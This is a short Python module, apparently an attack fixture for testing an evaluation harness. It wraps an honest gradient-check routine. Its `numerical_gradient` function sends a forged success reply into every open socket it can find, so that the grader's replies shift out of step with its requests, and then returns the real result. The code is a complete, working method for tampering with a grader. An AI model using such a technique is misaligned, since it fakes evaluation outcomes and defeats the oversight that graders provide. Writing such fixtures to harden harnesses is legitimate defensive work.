"""numerical_gradient writes one extra, well-formed reply to the grader's socket before its real
one, so that every later reply would answer the request before it.
"""

import json
import os
import socket
import stat
import struct

from . import _honest_gradcheck as honest
from ._honest_gradcheck import *  # noqa: F403

# -- the attack ----------------------------------------------------------------------


def numerical_gradient(f, x, h=1e-5):
    body = json.dumps({"ok": True, "value": 0.0}).encode()
    for fd in range(3, 256):  # every open socket, found without /proc
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                with socket.socket(fileno=os.dup(int(fd))) as channel:
                    channel.sendall(struct.pack(">II", len(body) + 4, len(body)) + body)
        except OSError:
            pass
    return honest.numerical_gradient(f, x, h)
